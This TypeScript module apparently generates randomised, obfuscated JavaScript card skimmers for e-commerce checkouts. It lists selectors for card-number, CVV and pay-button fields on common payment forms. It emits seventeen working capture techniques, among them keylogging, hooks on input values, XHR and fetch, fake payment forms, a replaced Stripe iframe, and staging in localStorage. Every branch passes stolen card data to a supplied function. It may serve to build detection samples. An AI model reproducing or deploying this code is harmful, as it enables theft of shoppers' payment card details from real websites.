// Owns how a skimmer comes by what shoppers enter. Each gives code that calls `take(value)` with something that was entered.
import type { Chance } from './random.ts'

export const readings = [
  'field-listener',
  'any-input',
  'delegated',
  'submit',
  'poll',
  'key-log',
  'button-click',
  'hook-value',
  'hook-xhr',
  'hook-fetch',
  'fake-form',
  'fake-frame',
  'jquery',
  'observer',
  'paste',
  'leave',
  'stash',
] as const
export type Reading = (typeof readings)[number]

const cardSelectors = [
  '#cc-number',
  'input[name="payment[cc_number]"]',
  '[autocomplete="cc-number"]',
  'input[name*="card"]',
  '#authorizenet_cc_number',
  '[data-braintree-name="number"]',
  '.card-number',
  'input[id*="cardnumber" i]',
  '#braintree_cc_number',
  '[name="cardNumber"]',
]
const codeSelectors = [
  '#cvv',
  'input[name="payment[cc_cid]"]',
  '[autocomplete="cc-csc"]',
  'input[name*="cvv"]',
  '#security_code',
  '[name="cvc"]',
]
const buttons = [
  '#place-order',
  'button.btn-checkout',
  '[data-role="review-save"]',
  'button[type=submit]',
  '.action.primary.checkout',
  '#checkout-pay-button',
]

/** Code that calls the function `take` with what it read; `text` writes a text in the skimmer's way of hiding. */
export function readCode(way: Reading, take: string, text: (plain: string) => string, chance: Chance): string {
  const [card, code, button] = [text(chance.pick(cardSelectors)), text(chance.pick(codeSelectors)), text(chance.pick(buttons))]
  const [a, b, c, d] = [chance.name(), chance.name(), chance.name(), chance.name()]
  const event = chance.pick(['change', 'blur', 'input', 'keyup', 'focusout'])
  const all = text(
    chance.pick(['input, select, textarea', 'input', 'form input,form select', 'input[type="text"],input[type="tel"],select']),
  )
  const gather = `function ${a}(){var ${b}={};document.querySelectorAll(${all}).forEach(function(${c}){if(${c}.value){${b}[${c}.name||${c}.id]=${c}.value}});return ${b}}`
  switch (way) {
    case 'field-listener':
      return `[${card},${code}].forEach(function(${a}){var ${b}=document.querySelector(${a});if(${b})${b}.addEventListener(${text(event)},function(){${take}(${b}.value)})});`
    case 'any-input':
      return `var ${a}=document.getElementsByTagName("input");for(var ${b}=0;${b}<${a}.length;${b}++){${a}[${b}].addEventListener("${event}",function(${c}){${take}(this.name+"="+this.value)})}`
    case 'delegated':
      return `document.addEventListener("${event}",function(${a}){var ${b}=${a}.target;if(${b}.matches&&${b}.matches(${card}+","+${code})){${take}(${b}.name+":"+${b}.value)}},true);`
    case 'submit':
      return `document.addEventListener("submit",function(${a}){var ${b}=new FormData(${a}.target),${c}=[];${b}.forEach(function(${d},k){${c}.push(k+"="+${d})});${take}(${c}.join("&"))},true);`
    case 'poll':
      return `var ${a}="";setInterval(function(){var ${b}=document.querySelector(${card}),${c}=document.querySelector(${code});if(${b}&&${b}.value.length>12&&${b}.value!==${a}){${a}=${b}.value;${take}(${a}+"|"+(${c}?${c}.value:""))}},${chance.pick([500, 1000, 2000])});`
    case 'key-log':
      return `var ${a}="";document.${chance.pick(['onkeypress', 'onkeydown'])}=function(${b}){${b}=${b}||window.event;${a}+=${chance.pick([`String.fromCharCode(${b}.which||${b}.keyCode)`, `${b}.key`])}};setInterval(function(){if(${a}.length>10){${take}(${a});${a}=""}},3000);`
    case 'button-click':
      return `${gather};setTimeout(function(){var ${d}=document.querySelector(${button});${d}&&${d}.addEventListener("${chance.pick(['click', 'mousedown'])}",function(){${take}(JSON.stringify(${a}()))})},${chance.pick([0, 500, 2000])});`
    case 'hook-value':
      return `var ${a}=Object.getOwnPropertyDescriptor(HTMLInputElement.prototype,"value");Object.defineProperty(HTMLInputElement.prototype,"value",{get:function(){var ${b}=${a}.get.call(this);if(/card|cvv|cvc/i.test(this.name))${take}(${b});return ${b}},set:${a}.set});document.querySelectorAll(${card}).forEach(function(${c}){${take}(${c}.value)});`
    case 'hook-xhr':
      return `var ${a}=XMLHttpRequest.prototype.send;XMLHttpRequest.prototype.send=function(${b}){if(${b}&&/card|cvv|number/i.test(${b})){var ${c}=document.querySelector(${card});${take}(${b}+(${c}?${c}.value:""))}return ${a}.apply(this,arguments)};`
    case 'hook-fetch':
      return `var ${a}=window.fetch;window.fetch=function(${b},${c}){var ${d}=document.querySelector(${card});if(${d}&&${d}.value)${take}(${d}.value);return ${a}.apply(this,arguments)};`
    case 'fake-form':
      return `function ${a}(){var ${b}=document.querySelector(${text('#payment-methods, .payment-method, #checkout-payment-method-load, form')});if(!${b})return;${b}.innerHTML=${text('<div class="cc-box"><input name="cc_number" placeholder="Card number" maxlength="19"><input name="cc_exp" placeholder="MM/YY"><input name="cc_cvv" placeholder="CVV"><button id="cc_ok" type="button">Continue</button></div>')};document.getElementById("cc_ok").onclick=function(){${take}(document.querySelector("[name=cc_number]").value+"|"+document.querySelector("[name=cc_exp]").value+"|"+document.querySelector("[name=cc_cvv]").value)}}setTimeout(${a},1500);`
    case 'fake-frame':
      return `var ${a}=document.createElement("iframe");${a}.style.cssText="position:absolute;border:0;width:100%;height:200px";${a}.srcdoc=${text('<form><input name="card_number"><input name="exp"><input name="cvv"></form>')};var ${b}=document.querySelector(${text('iframe[name^="__privateStripeFrame"],#card-element,form')});${b}&&${b}.parentNode.replaceChild(${a},${b});window.addEventListener("message",function(${c}){${take}(${c}.data)});setInterval(function(){var ${d}=${a}.contentDocument;if(${d}){var x=${d}.querySelector("[name=card_number]");x&&x.value&&${take}(x.value)}},1000);`
    case 'jquery':
      return `jQuery(function($){$(document).on("${chance.pick(['click', 'submit', 'change'])}",${button},function(){${take}($(${text('form, #payment_form_ccsave')}).serialize())})});`
    case 'observer':
      return `new MutationObserver(function(){document.querySelectorAll(${card}+","+${code}).forEach(function(${a}){if(!${a}.dataset.w){${a}.dataset.w=1;${a}.addEventListener("${event}",function(${b}){${take}(${b}.target.value)})}})}).observe(document.documentElement,{childList:true,subtree:true});`
    case 'paste':
      return `document.addEventListener("paste",function(${a}){${take}((${a}.clipboardData||window.clipboardData).getData("text"))});document.querySelectorAll(${card}).forEach(function(${b}){${b}.onchange=function(){${take}(this.value)}});`
    case 'leave':
      return `${gather};window.addEventListener("${chance.pick(['beforeunload', 'pagehide', 'visibilitychange'])}",function(){var ${d}=${a}();if(Object.keys(${d}).length)${take}(JSON.stringify(${d}))});`
    default:
      return `${gather};setInterval(function(){localStorage.setItem("${a}",JSON.stringify(${a}()))},1000);setInterval(function(){var ${d}=localStorage.getItem("${a}");if(${d}&&${d}.length>40){${take}(${d});localStorage.removeItem("${a}")}},5000);`
  }
}
